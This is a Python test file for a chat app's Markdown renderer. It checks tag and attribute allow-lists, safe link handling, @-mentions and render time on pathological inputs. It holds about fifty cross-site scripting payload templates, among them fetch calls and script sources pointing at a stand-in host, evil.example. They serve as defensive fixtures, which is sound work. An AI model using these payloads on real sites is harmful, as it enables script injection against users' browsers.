import re
import time
from html.parser import HTMLParser
from itertools import count
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from openvibe.engines.llm.offline.offline import CONNECT_LINE
from openvibe.engines.text.markdown import plain_text, render_markdown
from openvibe.engines.text.mentions import mentioned_handles
from tests.examples import examples

_ALLOWED = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "s", "blockquote"),
    *("ul", "ol", "li", "pre", "code", "span", "a", "table", "thead", "tbody", "tr", "th", "td"),
    *("div", "figure", "figcaption", "button", "input", "details", "summary", "section", "sup"),
    *("math", "semantics", "annotation", "mrow", "mi", "mo", "mn", "mtext", "mspace", "msup", "msub", "msubsup"),
    *("mover", "munder", "munderover", "mfrac", "msqrt", "mroot", "mtable", "mtr", "mtd", "menclose", "mpadded"),
    *("mstyle", "mphantom", "mmultiscripts", "mprescripts", "ms", "merror"),
}
_ATTRIBUTES = {
    *("href", "title", "rel", "target", "class", "align", "start", "tabindex", "id", "dir", "open", "aria-label"),
    *("type", "checked", "disabled", "data-code", "aria-pressed", "aria-expanded"),
    *("display", "encoding", "lspace", "rspace", "stretchy", "symmetric", "fence", "form", "separator", "width"),
    *("movablelimits", "largeop", "accent", "accentunder", "linethickness", "mathvariant", "notation", "minsize"),
    *("maxsize", "height", "depth", "voffset", "displaystyle", "scriptlevel", "columnspan", "rowspan"),
}
_NOTE_ADDRESS = re.compile(r"#fn(ref)?-[0-9a-f]+-[0-9-]+")

_ALERTS = ("alert(1)", "alert`1`", "fetch('//evil.example')")
_TEMPLATES = (
    "<script>{}</script>",
    "<ScRiPt src=//evil.example>{}</ScRiPt>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>",
    "<body onload={}>",
    "<style>*{{background:url(javascript:{})}}</style>",
    "<math><mtext><style><img src onerror={}></style>",
    "<details open ontoggle={}>",
    "<object data='data:text/html,{}'></object>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](&#106;avascript:{})",
    "[x](\x01javascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "[x](<javascript:{}>)",
    "![x](javascript:{})",
    '![x](https://evil.example/x.png"onerror="{})',
    "![x](https://evil.example/x.png 'x\" onerror=\"{}')",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    '[x](https://a.example "\\"><img src=x onerror={}>")',
    '```"><script>{}</script>\nx\n```',
    "```html onload={}\n<script>{}</script>",
    "`<script>{}</script>`",
    "    <script>{}</script>",
    "| <img src=x onerror={}> |\n|---|\n| <script>{}</script> |",
    "@<script>{}</script>",
    'https://a.example/"onmouseover="{}',
    "https://a.example/<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\<script>{}\\</script>",
    "[<img src=x onerror={}>](https://a.example)",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
_PAYLOADS = [template.replace("{}", alert) for template in _TEMPLATES for alert in _ALERTS]


class _Reader(HTMLParser):
    """Finds everything that has no place in a message."""

    def __init__(self) -> None:
        super().__init__()
        self.unsafe: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ALLOWED:
            self.unsafe.append(tag)
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.unsafe.append(f"{tag} {name}={value}")
            is_address = urlsplit(value or "").scheme in {"http", "https", "mailto"} or _NOTE_ADDRESS.fullmatch(
                value or ""
            )
            if name == "href" and not is_address:
                self.unsafe.append(f"href {value}")
            if (tag, name) == ("input", "type") and value != "checkbox":
                self.unsafe.append(f"input {value}")
            if (tag, name) == ("button", "type") and value != "button":
                self.unsafe.append(f"button {value}")

    def handle_comment(self, data: str) -> None:
        self.unsafe.append("comment")


def _unsafe_in(markup: str) -> list[str]:
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    return reader.unsafe


_PROSE = ("Ordinary words stand here, with *emphasis* and `code`.\n\n" * 1_800)[:100_000]
_CUTS = count()


def _render_timed(body: str) -> tuple[str, float]:
    """The markup of a body that was not rendered yet, and the seconds of processor time it took."""
    start_time = time.process_time()
    markup = render_markdown(body, handles=frozenset({"a"}))
    return markup, time.process_time() - start_time


def _render_prose() -> float:
    """The seconds that 100,000 characters of prose take, a few less each time: 0.05 on an ordinary machine."""
    return _render_timed(_PROSE[next(_CUTS) :])[1]


@pytest.fixture(scope="module")
def prose_seconds() -> float:
    return min(_render_prose() for _ in range(3))


class TestHostileText:
    def test_there_are_enough_payloads(self) -> None:
        assert len(set(_PAYLOADS)) >= 100

    @pytest.mark.parametrize("payload", _PAYLOADS)
    def test_hostile_text_stays_text(self, payload: str) -> None:
        assert _unsafe_in(render_markdown(payload, handles=frozenset({"script"}))) == []

    @pytest.mark.parametrize("payload", _PAYLOADS[::3])
    def test_hostile_text_stays_text_while_it_is_written(self, payload: str) -> None:
        for end in range(len(payload)):
            assert _unsafe_in(render_markdown(payload[:end])) == []

    @given(st.text(st.one_of(st.characters(), st.sampled_from("<>[]()`*_~|@&\"'\n #-:!\\\ud800\x00")), max_size=300))
    @settings(max_examples=examples(300), deadline=None)
    def test_any_text_renders_safely(self, body: str) -> None:
        assert _unsafe_in(render_markdown(body, handles=frozenset({"a", "b"}))) == []
        mentioned_handles(body)
        plain_text(body)

    @pytest.mark.parametrize(
        "body",
        [
            "[" * 99_999,
            "![" * 45_000,
            ">" * 99_999,
            "*" * 99_999,
            "> - " * 24_000,
            "*a_" * 33_000,
            "[a](" * 24_000,
            "`a``" * 24_000,
            "- " * 49_000,
            "<a" * 49_000,
            "\n" * 99_999,
            "a|b\n-|-\n" * 12_000,
            "[a]: <b\n" * 12_000,
            "[" * 1_000_000,
            "@a " * 33_000,
            "```java\n" + "\n" * 90_000,
            "```c\n" + "\n \n" * 2_000,
            "# a\n" * 25_000,
            "a\n=\n" * 25_000,
            "a\r" * 50_000,
            "<http://a.b>" * 8_300,
            "|" + "a|" * 500 + "\n|" + "-|" * 500 + ("\n|" + "a|" * 500) * 90,
            ("```csharp\n" + "a\n" * 390 + "```\n") * 120,
            ("```scala\n" + "(" * 490 + "\n```\n") * 190,
            ("```make\n" + ("_" * 490 + "\n") * 16 + "```\n") * 12,
        ],
        ids=lambda body: repr(body[:10]),
    )
    def test_hostile_shapes_cost_little_more_than_ordinary_text(self, body: str, prose_seconds: float) -> None:
        """What seems dear is measured again, in turns with prose: the processor may have been slower meanwhile."""
        markup, seconds = _render_timed(body)
        if seconds >= 6 * prose_seconds:
            turns = [(_render_prose(), _render_timed(body[turn:])[1]) for turn in (1, 2)]
            prose_seconds, seconds = map(min, zip(*turns, strict=True))

        assert seconds < 6 * prose_seconds
        assert _unsafe_in(markup) == []

    def test_what_is_nested_too_deeply_is_shown_whole(self) -> None:
        body = "> " * 200 + "the end"

        assert render_markdown(body).startswith('<pre class="plain">')
        assert "the end" in render_markdown(body)
        assert "Shown as it was written" in render_markdown(body)
        assert plain_text(body).endswith("the end")


class TestRendering:
    def test_tables_strikethrough_and_breaks(self) -> None:
        markup = render_markdown("~~old~~\nnew\n\n| a | b |\n|:--|--:|\n| 1 | 2 |")

        assert "<s>old</s><br>" in markup
        assert '<td align="right">2</td>' in markup

    def test_links_open_apart_and_tell_nothing(self) -> None:
        for body in ("[x](https://a.example)", "<https://a.example>", "https://a.example"):
            assert '<a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">' in render_markdown(
                body
            )

    def test_a_bare_address_ends_before_the_punctuation(self) -> None:
        markup = render_markdown("(see https://a.example/c_(d)).")

        assert '<a href="https://a.example/c_(d)"' in markup
        assert markup.endswith("</a>).</p>\n")

    def test_an_image_becomes_a_link_with_its_description(self) -> None:
        assert '<a href="https://a.example/x.png"' in render_markdown("![a *rose*](https://a.example/x.png)")
        assert ">a rose</a>" in render_markdown("![a *rose*](https://a.example/x.png)")
        assert render_markdown("[![rose](https://a.example/x.png)](https://b.example)").count("<a ") == 1

    def test_known_code_is_coloured_by_class(self) -> None:
        markup = render_markdown("```python\ndef prune(): pass\n```")

        assert '<pre class="code" tabindex="0"><code class="language-python">' in markup
        assert '<span class="k">def</span>' in markup
        assert "style=" not in markup

    def test_unknown_and_very_long_code_is_plain(self) -> None:
        assert "<span" not in render_markdown("```klingon\ndef x\n```")
        assert "<span" not in render_markdown("```python\n" + "x = 1\n" * 3_000 + "```")

    @pytest.mark.parametrize("body", ["```python\ndef x():", "~~~\na", "**bold", "[x](http", "| a |\n|--", "`a", "- "])
    def test_unfinished_markdown_renders(self, body: str) -> None:
        assert _unsafe_in(render_markdown(body)) == []
        assert render_markdown(body) or not body.strip("- ")

    def test_an_unclosed_fence_is_code_already(self) -> None:
        assert '<pre class="code" tabindex="0">' in render_markdown("Look:\n```python\ndef x():")

    def test_lone_surrogates_and_nul_do_no_harm(self) -> None:
        assert render_markdown("a\ud800b\x00c") == "<p>a\ufffdb\ufffdc</p>\n"


class TestMentions:
    @pytest.mark.parametrize(
        ("body", "handles"),
        [
            ("@fern when do I prune?", ("fern",)),
            ('@Fern, (@ben)! "@ana\'s" @cleo: @dan-', ("fern", "ben", "ana", "cleo", "dan")),
            ("Ask @deep-researcher.", ("deep-researcher",)),
            ("@fern and @FERN", ("fern",)),
            ("**@fern** _@ben_ ~~@ana~~\n> @cleo\n\n- @dan\n\n# @eve", ("fern", "ben", "ana", "cleo", "dan", "eve")),
            ("| a |\n|---|\n| @fern |", ("fern",)),
            ("@ana/@ben", ("ana", "ben")),
            ("请问@fern，你好", ("fern",)),
            ("`@fern` ``@ben``", ()),
            ("```\n@fern\n```\n\n    @ben\n\n~~~\n@ana", ()),
            ("[@fern](https://a.example) [x](https://a.example/@ben) <https://a.example/@ana>", ()),
            ("![@fern](https://a.example/x.png) https://a.example/@ben", ()),
            ("[@fern][x]\n\n[x]: https://a.example '@ben'", ()),
            ("ana@example.com foo@bar <ana@example.com> mailto:ana@fern ana+x@fern", ()),
            ("@@fern \\@fern &#64;fern @ fern @-fern @_fern", ()),
            ("@fern@example.com @types/node @example.com", ()),
            ("@" + "x" * 33, ()),
            ("@" + "x" * 32, ("x" * 32,)),
            ("@fernñ ñ@fern", ()),
        ],
    )
    def test_mentions_are_read_from_the_text_alone(self, body: str, handles: tuple[str, ...]) -> None:
        assert mentioned_handles(body) == handles

    def test_only_known_handles_are_marked_and_only_in_text(self) -> None:
        markup = render_markdown("@Fern @nobody `@fern` [@fern](https://a.example)", handles=frozenset({"fern"}))

        assert markup.count('<span class="mention">') == 1
        assert '<span class="mention">@Fern</span>' in markup

    @given(st.text(st.sampled_from("@ab c\n-*_[]()<>.~#"), max_size=60))
    @settings(deadline=None)
    def test_nothing_in_code_is_a_mention(self, text: str) -> None:
        assert mentioned_handles(f"````\n{text}\n````") == ()
        assert mentioned_handles("``` x\n" + text.replace("`", "")) == ()
        inner = " ".join(text.replace("#", "").split())
        assert mentioned_handles(f"a ``` {inner} ```") == ()

    @given(st.text(st.sampled_from("@ab c`\n-*_[]()<>.~#"), max_size=80))
    @settings(deadline=None)
    def test_what_is_marked_is_what_is_mentioned(self, body: str) -> None:
        mentioned = frozenset(mentioned_handles(body))

        assert ('class="mention"' in render_markdown(body, handles=mentioned)) == bool(mentioned)


def test_of_paths_only_those_of_own_pages_are_links() -> None:
    assert 'href="/connect-model/"' in render_markdown(CONNECT_LINE)
    for path in ("/accounts/logout/", "//evil.example/", "/connect-model/../x", "connect-model/", "/\\\\evil.example"):
        assert "href" not in render_markdown(f"[here]({path})")


def test_plain_text_is_one_line_without_signs() -> None:
    body = "# Roses\n\n**Prune** in [March](https://a.example) &amp;\n`cut`\n\n```\na < b\n```"

    assert plain_text(body) == "Roses Prune in March & cut a < b"
